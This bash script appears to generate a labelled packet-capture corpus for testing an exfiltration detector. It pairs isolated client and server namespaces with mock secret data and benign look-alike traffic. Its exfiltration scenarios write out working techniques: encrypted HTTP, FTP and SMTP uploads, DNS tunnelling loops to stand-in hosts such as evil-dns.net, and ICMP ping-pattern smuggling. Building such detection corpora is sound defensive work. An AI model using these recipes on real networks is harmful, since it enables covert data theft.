#!/usr/bin/env bash
# Builds the labelled emulation corpus: real servers and real clients in two network namespaces joined by a
# veth pair (MTU 1500, segmentation/receive offloads off so the capture sees wire-sized packets), one pcap per
# scenario recorded with tcpdump inside the client namespace, and labels.tsv describing each scenario.
# Traffic never leaves the namespaces this script creates; they are removed on exit.
#
# Needs root. Debian packages used (installed with apt-get when missing): iproute2 ethtool tcpdump curl
# openssl gnupg p7zip-full zip dnsutils iputils-ping dnsmasq-base python3-aiosmtpd python3-pyftpdlib python3-pil
#
# Usage: test/emulation/emulate.sh [OUTDIR]   (default test/emulation/corpus)
set -euo pipefail

HERE="$(cd "$(dirname "$0")" && pwd)"
OUT="$(realpath -m "${1:-$HERE/corpus}")"
PY=/usr/bin/python3
CLI=exs-cli
SRV=exs-srv
C_IP=10.99.0.1
S_IP=10.99.0.2
PASS='correct horse battery staple'

[[ $EUID -eq 0 ]] || { echo "emulate.sh: must run as root (network namespaces, tcpdump)" >&2; exit 1; }

need=()
for pair in ip:iproute2 ethtool:ethtool tcpdump:tcpdump curl:curl openssl:openssl gpg:gnupg 7z:p7zip-full zip:zip \
  dig:dnsutils ping:iputils-ping dnsmasq:dnsmasq-base; do
  command -v "${pair%%:*}" >/dev/null || need+=("${pair#*:}")
done
$PY -c 'import aiosmtpd' 2>/dev/null || need+=(python3-aiosmtpd)
$PY -c 'import pyftpdlib' 2>/dev/null || need+=(python3-pyftpdlib)
$PY -c 'import PIL' 2>/dev/null || need+=(python3-pil)
if ((${#need[@]})); then
  echo "installing: ${need[*]}" >&2
  apt-get update -qq && DEBIAN_FRONTEND=noninteractive apt-get install -y -qq "${need[@]}" >/dev/null
fi

WORK="$(mktemp -d)"
PIDS=()
CAPTURE_PID=
cleanup() {
  for pid in "${PIDS[@]}" $CAPTURE_PID; do kill "$pid" 2>/dev/null || true; done
  wait 2>/dev/null || true
  ip netns del "$CLI" 2>/dev/null || true
  ip netns del "$SRV" 2>/dev/null || true
  rm -rf "$WORK"
}
trap cleanup EXIT

in_cli() { ip netns exec "$CLI" "$@"; }

# --- network -------------------------------------------------------------------------------------------
ip netns del "$CLI" 2>/dev/null || true
ip netns del "$SRV" 2>/dev/null || true
ip netns add "$CLI"
ip netns add "$SRV"
ip link add exs-c netns "$CLI" type veth peer name exs-s netns "$SRV"
in_cli ip addr add "$C_IP/24" dev exs-c
ip netns exec "$SRV" ip addr add "$S_IP/24" dev exs-s
for ns_dev in "$CLI:exs-c" "$SRV:exs-s"; do
  ns=${ns_dev%%:*}; dev=${ns_dev#*:}
  ip netns exec "$ns" ip link set "$dev" mtu 1500 up
  ip netns exec "$ns" ip link set lo up
  ip netns exec "$ns" ethtool -K "$dev" tso off gso off gro off >/dev/null 2>&1 || true
done

# --- data ----------------------------------------------------------------------------------------------
DATA="$WORK/data"
mkdir -p "$DATA" "$WORK/www" "$WORK/ftp" "$OUT"
$PY "$HERE/make_data.py" "$DATA"
head -c 3000000 /dev/urandom > "$WORK/www/firmware.bin"   # a big download (random bytes, inbound)
gzip -c "$DATA/benign-report.csv" > "$DATA/report.csv.gz"
(cd "$DATA" && zip -q report.zip benign-report.csv)
rm -f "$OUT"/*.pcap "$OUT/labels.tsv"
printf 'scenario\tprotocol\tcipher\tencoding\tsize\texpected\tlabel\tnote\n' > "$OUT/labels.tsv"

enc() { # enc CIPHER IN OUT [extra openssl args]
  local cipher=$1 in=$2 out=$3; shift 3
  openssl enc "-$cipher" -pbkdf2 -salt -pass "pass:$PASS" -in "$in" -out "$out" "$@"
}

# --- servers -------------------------------------------------------------------------------------------
ip netns exec "$SRV" $PY "$HERE/http_server.py" "$S_IP" 80 "$WORK/www" & PIDS+=($!)
ip netns exec "$SRV" $PY -m pyftpdlib -i "$S_IP" -p 21 -w -d "$WORK/ftp" >/dev/null 2>&1 & PIDS+=($!)
ip netns exec "$SRV" $PY -m aiosmtpd -n -l "$S_IP:25" >/dev/null 2>&1 & PIDS+=($!)
ip netns exec "$SRV" dnsmasq --no-daemon --port=53 --listen-address="$S_IP" --bind-interfaces --no-resolv --no-hosts \
  --address=/evil-dns.net/$S_IP --address=/exfil-lab.org/$S_IP --address=/cdn-edge.net/$S_IP \
  --address=/example.com/$S_IP --address=/av-vendor.com/$S_IP \
  --txt-record=sel1._domainkey.example.com,"v=DKIM1; k=rsa; p=MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAw" \
  >/dev/null 2>&1 & PIDS+=($!)
sleep 1.5

# --- scenario runner -----------------------------------------------------------------------------------
# scenario NAME PROTOCOL CIPHER ENCODING SIZE EXPECTED LABEL NOTE -- command...
scenario() {
  local name=$1 proto=$2 cipher=$3 encoding=$4 size=$5 expected=$6 label=$7 note=$8
  shift 9
  local pcap="$OUT/$name.pcap"
  # `ip netns exec` execs tcpdump, so $! is tcpdump itself (a shell function here would fork a subshell).
  ip netns exec "$CLI" tcpdump -i exs-c -U -s 0 -w "$pcap" 2>/dev/null & CAPTURE_PID=$!
  sleep 0.7
  if ! in_cli bash -c "$*" >"$WORK/$name.log" 2>&1; then
    echo "scenario $name: client failed (see below)" >&2
    tail -5 "$WORK/$name.log" >&2
  fi
  sleep 0.7
  kill "$CAPTURE_PID"
  wait "$CAPTURE_PID" 2>/dev/null || true
  CAPTURE_PID=
  printf '%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\n' "$name" "$proto" "$cipher" "$encoding" "$size" "$expected" "$label" "$note" >> "$OUT/labels.tsv"
  echo "  $name ($(stat -c %s "$pcap") bytes)"
}

URL="http://$S_IP"
S="$DATA/secret-small.csv"; M="$DATA/secret-medium.csv"; L="$DATA/secret-large.csv"
E="$WORK/enc"; mkdir -p "$E"

# Ciphertext made on the client with the tools attackers use.
enc aes-256-cbc "$M" "$E/m.aes256cbc"
enc aes-256-cbc "$S" "$E/s.aes256cbc"
enc aes-256-cbc "$L" "$E/l.aes256cbc"
enc aes-128-ctr "$M" "$E/m.aes128ctr.b64" -a
enc des-ede3-cbc "$M" "$E/m.3des"
enc chacha20 "$M" "$E/m.chacha20"
enc bf-cbc "$M" "$E/m.bf" -provider legacy -provider default
enc rc4 "$M" "$E/m.rc4" -provider legacy -provider default -nosalt
gpg --batch --yes --pinentry-mode loopback --passphrase "$PASS" -c -o "$E/m.gpg" "$M"
gpg --batch --yes --pinentry-mode loopback --passphrase "$PASS" -c -a -o "$E/s.asc" "$S"
gpg --batch --yes --pinentry-mode loopback --passphrase "$PASS" --cipher-algo CAST5 -c -o "$E/m.cast5.gpg" "$M"
7z a -p"$PASS" -mhe=on -bso0 "$E/m.7z" "$M"
zip -q -j -P "$PASS" "$E/m.zipcrypto.zip" "$M"
7z a -tzip -p"$PASS" -mem=AES256 -bso0 "$E/m.zipaes.zip" "$M"
$PY - "$M" "$DATA/xor-key.txt" "$E/m.xor" <<'PYXOR'
import sys
data, key = open(sys.argv[1], 'rb').read(), open(sys.argv[2], 'rb').read().strip()
open(sys.argv[3], 'wb').write(bytes(b ^ key[i % len(key)] for i, b in enumerate(data)))
PYXOR
openssl enc -aes-256-cbc -pbkdf2 -pass "pass:$PASS" -in "$S" | base64 -w0 | tr '+/' '-_' | tr -d '=' > "$E/s.b64url"
openssl enc -aes-256-cbc -pbkdf2 -pass "pass:$PASS" -in "$S" | xxd -p | tr -d '\n' > "$E/s.hex"
openssl enc -aes-256-cbc -pbkdf2 -pass "pass:$PASS" -in "$S" | base32 -w0 | tr -d '=' | tr 'A-Z' 'a-z' > "$E/s.b32"
xxd -p "$S" | tr -d '\n' > "$E/s.plain.hex"
head -c 2048 "$E/m.aes256cbc" > "$E/icmp.bin"
head -c 512 "$E/m.aes256cbc" | xxd -p | tr -d '\n' > "$E/icmp.pattern.hex"

echo "exfiltration scenarios:"
scenario http-post-aes256cbc-raw http aes-256-cbc raw medium T1048.001 exfil "openssl enc body" -- \
  curl -s -o /dev/null --data-binary @"$E/m.aes256cbc" -H 'Content-Type: application/octet-stream' "$URL/upload"
scenario http-post-aes256cbc-small http aes-256-cbc raw small T1048.001 exfil "3 KB openssl body" -- \
  curl -s -o /dev/null --data-binary @"$E/s.aes256cbc" "$URL/u"
scenario http-post-aes256cbc-large http aes-256-cbc raw large T1048.001 exfil "1.6 MB openssl body" -- \
  curl -s -o /dev/null --data-binary @"$E/l.aes256cbc" "$URL/u"
scenario http-form-aes128ctr-b64 http aes-128-ctr base64+percent medium T1048.001 exfil "openssl -a in a form field" -- \
  curl -s -o /dev/null --data-urlencode "data@$E/m.aes128ctr.b64" --data-urlencode "name=report" "$URL/form"
scenario http-put-gpg http gpg-aes256 raw medium T1048.001 exfil "gpg -c via PUT" -- \
  curl -s -o /dev/null -T "$E/m.gpg" "$URL/put/m.gpg"
scenario http-multipart-7z-aes http 7z-aes256 multipart medium T1048.001 exfil "7z -p -mhe as a form upload" -- \
  curl -s -o /dev/null -F "file=@$E/m.7z" "$URL/upload"
scenario http-json-rc4-hex http rc4 hex medium T1048.001 exfil "RC4 (no salt) hex in JSON" -- \
  "printf '{\"id\":7,\"blob\":\"%s\"}' \"\$(xxd -p $E/m.rc4 | tr -d '\n')\" | curl -s -o /dev/null -H 'Content-Type: application/json' --data-binary @- $URL/api"
scenario http-post-xor http xor-7 raw medium T1048.001 exfil "repeating-key XOR" -- \
  curl -s -o /dev/null --data-binary @"$E/m.xor" "$URL/u"
scenario http-post-bf-cbc http blowfish-cbc raw medium T1048.001 exfil "openssl bf-cbc" -- \
  curl -s -o /dev/null --data-binary @"$E/m.bf" "$URL/u"
scenario http-post-chacha20 http chacha20 raw medium T1048.001 exfil "openssl chacha20" -- \
  curl -s -o /dev/null --data-binary @"$E/m.chacha20" "$URL/u"
scenario http-uri-b64url http aes-256-cbc base64url small T1048.001 exfil "ciphertext in GET query strings, 300 chars each" -- \
  "d=\$(cat $E/s.b64url); for ((i=0;i<\${#d};i+=300)); do curl -s -o /dev/null \"$URL/c?s=\$i&d=\${d:i:300}\"; done"
scenario http-after-1mib-benign http aes-256-cbc raw medium T1048.001 exfil "1.6 MB plain CSV then ciphertext on the same connection" -- \
  curl -s -o /dev/null --data-binary @"$L" "$URL/a" --next -s -o /dev/null --data-binary @"$E/m.aes256cbc" "$URL/b"
scenario ftp-stor-aes256cbc ftp aes-256-cbc raw medium T1048.001 exfil "curl -T ftp:// (passive STOR)" -- \
  curl -s -T "$E/m.aes256cbc" "ftp://$S_IP/m.bin"
scenario ftp-stor-3des ftp des-ede3-cbc raw medium T1048.001 exfil "3DES via FTP" -- \
  curl -s -T "$E/m.3des" "ftp://$S_IP/m3.bin"
scenario ftp-stor-zipcrypto ftp zipcrypto zip medium T1048.001 exfil "zip -P via FTP" -- \
  curl -s -T "$E/m.zipcrypto.zip" "ftp://$S_IP/m.zip"
scenario ftp-appe-zipaes ftp zip-aes256 zip medium T1048.001 exfil "WinZip AES via FTP APPE" -- \
  curl -s -a -T "$E/m.zipaes.zip" "ftp://$S_IP/aes.zip"
scenario ftp-stor-active-gpg-cast5 ftp gpg-cast5 raw medium T1048.001 exfil "gpg CAST5, active mode (PORT)" -- \
  curl -s -P - -T "$E/m.cast5.gpg" "ftp://$S_IP/c.gpg"

mail() { # mail SUBJECT ATTACHMENT-FILE MIME-TYPE OUT
  local b=EXSBOUNDARY
  { printf 'From: clerk@corp.test\r\nTo: drop@mail.test\r\nSubject: %s\r\nMIME-Version: 1.0\r\n' "$1"
    printf 'Content-Type: multipart/mixed; boundary=%s\r\n\r\n--%s\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n' "$b" "$b"
    printf -- '--%s\r\nContent-Type: %s; name="%s"\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="%s"\r\n\r\n' "$b" "$3" "$(basename "$2")" "$(basename "$2")"
    base64 -w 76 "$2" | sed 's/$/\r/'
    printf -- '--%s--\r\n' "$b"; } > "$4"
}
mail "Q3 numbers" "$E/m.gpg" application/octet-stream "$WORK/mail-gpg.eml"
{ printf 'From: clerk@corp.test\r\nTo: drop@mail.test\r\nSubject: notes\r\n\r\n'; sed 's/$/\r/' "$E/s.asc"; } > "$WORK/mail-armor.eml"
{ printf 'From: clerk@corp.test\r\nTo: drop@mail.test\r\nSubject: data\r\n\r\n'; openssl enc -aes-256-cbc -pbkdf2 -pass "pass:$PASS" -a -in "$M" | sed 's/$/\r/'; } > "$WORK/mail-b64body.eml"
smtp() { echo curl -s "smtp://$S_IP" --mail-from clerk@corp.test --mail-rcpt drop@mail.test -T "$1"; }
scenario smtp-attach-gpg smtp gpg-aes256 base64 medium T1048.001 exfil "gpg output as a MIME attachment" -- "$(smtp "$WORK/mail-gpg.eml")"
scenario smtp-body-armor smtp gpg-aes256 pgp-armor small T1048.001 exfil "gpg -a in the body" -- "$(smtp "$WORK/mail-armor.eml")"
scenario smtp-body-openssl-b64 smtp aes-256-cbc base64 medium T1048.001 exfil "openssl -a in the body" -- "$(smtp "$WORK/mail-b64body.eml")"

scenario dns-hex-txt dns aes-256-cbc hex small T1048.001 exfil "numbered hex chunks, TXT queries" -- \
  "d=\$(cat $E/s.hex); n=0; for ((i=0;i<\${#d};i+=60)); do dig +short +tries=1 +time=1 @$S_IP \$n.\${d:i:60}.x.evil-dns.net TXT >/dev/null; n=\$((n+1)); done"
scenario dns-b32-a dns aes-256-cbc base32 small T1048.001 exfil "base32 chunks, two labels per name, A queries" -- \
  "d=\$(cat $E/s.b32); for ((i=0;i<\${#d};i+=100)); do c=\${d:i:100}; n=\${c:0:50}; [[ \${#c} -gt 50 ]] && n=\$n.\${c:50}; dig +short +tries=1 +time=1 @$S_IP \$n.t.exfil-lab.org A >/dev/null; done"
scenario dns-plain-hex dns none hex small T1048.003 exfil "plain CSV hex-encoded in names" -- \
  "d=\$(head -c 4000 $E/s.plain.hex); n=0; for ((i=0;i<\${#d};i+=60)); do dig +short +tries=1 +time=1 @$S_IP \$n.\${d:i:60}.p.evil-dns.net A >/dev/null; n=\$((n+1)); done"
scenario icmp-pattern-aes icmp aes-256-cbc ping-pattern small T1048.001 exfil "ping -p, 16 ciphertext bytes per echo" -- \
  "d=\$(cat $E/icmp.pattern.hex); for ((i=0;i<\${#d};i+=32)); do ping -c 1 -W 1 -p \${d:i:32} $S_IP >/dev/null; done"
scenario icmp-payload-aes icmp aes-256-cbc raw small T1048.001 exfil "raw echo payloads, 512 bytes each" -- \
  $PY "$HERE/icmp_send.py" "$S_IP" "$E/icmp.bin" 512
scenario icmp-payload-plain icmp none raw small T1048.003 exfil "plain CSV in echo payloads" -- \
  $PY "$HERE/icmp_send.py" "$S_IP" "$S" 400

echo "benign scenarios:"
scenario b-http-upload-gzip http none gzip medium none benign "gzip upload" -- curl -s -o /dev/null --data-binary @"$DATA/report.csv.gz" "$URL/u"
scenario b-http-upload-zip http none zip medium none benign "zip upload (no password)" -- curl -s -o /dev/null -F "f=@$DATA/report.zip" "$URL/u"
scenario b-http-upload-jpeg http none jpeg medium none benign "JPEG upload" -- curl -s -o /dev/null -F "photo=@$DATA/photo.jpg" "$URL/u"
scenario b-http-upload-png http none png medium none benign "PNG PUT" -- curl -s -o /dev/null -T "$DATA/diagram.png" "$URL/d.png"
scenario b-http-json-b64-image http none base64 small none benign "Base64 PNG inside JSON" -- \
  curl -s -o /dev/null -H 'Content-Type: application/json' --data-binary @"$DATA/avatar.json" "$URL/api/profile"
scenario b-http-jwt http none base64url small none benign "RS256-shaped JWT in a header and a body" -- \
  "t=\$(cat $DATA/token.jwt); curl -s -o /dev/null -H \"Authorization: Bearer \$t\" --data \"token=\$t&a=refresh\" $URL/auth"
scenario b-http-csv-upload http none plain medium T1048.003 benign "plain CSV upload (readable; not T1048.001)" -- \
  curl -s -o /dev/null --data-binary @"$DATA/benign-report.csv" "$URL/u"
scenario b-http-big-download http none raw large none benign "3 MB random download (inbound)" -- curl -s -o /dev/null "$URL/firmware.bin"
scenario b-ftp-stor-gzip ftp none gzip medium none benign "gzip over FTP" -- curl -s -T "$DATA/report.csv.gz" "ftp://$S_IP/r.gz"
scenario b-smtp-jpeg smtp none base64 medium none benign "JPEG attachment" -- \
  "$(mail 'photos' "$DATA/photo.jpg" image/jpeg "$WORK/mail-jpeg.eml"; smtp "$WORK/mail-jpeg.eml")"
scenario b-dns-cdn dns none none small none benign "CDN-style long names" -- \
  "for i in \$(seq 1 60); do dig +short +tries=1 +time=1 @$S_IP e\$((1000 + i % 7)).dsca.a\$((i % 3)).cdn-edge.net A >/dev/null; done"
scenario b-dns-dkim dns none none small none benign "DKIM TXT lookups" -- \
  "for i in \$(seq 1 20); do dig +short +tries=1 +time=1 @$S_IP sel1._domainkey.example.com TXT >/dev/null; done"
scenario b-dns-av-hash dns none hex small none benign "AV reputation lookups (sha1 per name)" -- \
  "for i in \$(seq 1 60); do h=\$(echo file\$i | sha1sum | cut -c1-40); dig +short +tries=1 +time=1 @$S_IP \$h.q.av-vendor.com A >/dev/null; done"
scenario b-ping-default icmp none none small none benign "Linux ping" -- ping -c 10 -i 0.2 "$S_IP"
scenario b-ping-mtu icmp none none small none benign "ping -s 1472 -M do" -- ping -c 5 -i 0.2 -s 1472 -M do "$S_IP"
scenario b-ping-pattern icmp none none small none benign "ping -p ff00 (fixed test pattern)" -- ping -c 10 -i 0.2 -p ff00 "$S_IP"

echo "corpus: $OUT ($(ls "$OUT"/*.pcap | wc -l) pcaps, $(du -sh "$OUT" | cut -f1))"
